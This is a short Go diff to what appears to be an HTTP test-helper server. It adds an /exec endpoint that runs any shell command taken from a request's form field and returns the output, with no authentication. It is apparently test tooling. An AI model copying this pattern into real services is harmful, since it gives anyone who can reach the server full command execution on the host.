@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
@@ -57,6 +58,10 @@ func main() {
 			eaten[i] = 1
 		}
 		answer(w, "full", err)
+	})
+	http.HandleFunc("/exec", func(w http.ResponseWriter, r *http.Request) {
+		out, err := exec.Command("/bin/sh", "-c", r.FormValue("command")).CombinedOutput()
+		answer(w, string(out), err)
 	})
 	http.HandleFunc("/exit", func(_ http.ResponseWriter, _ *http.Request) { os.Exit(3) })
 	fmt.Println("Listening", os.Getpid())
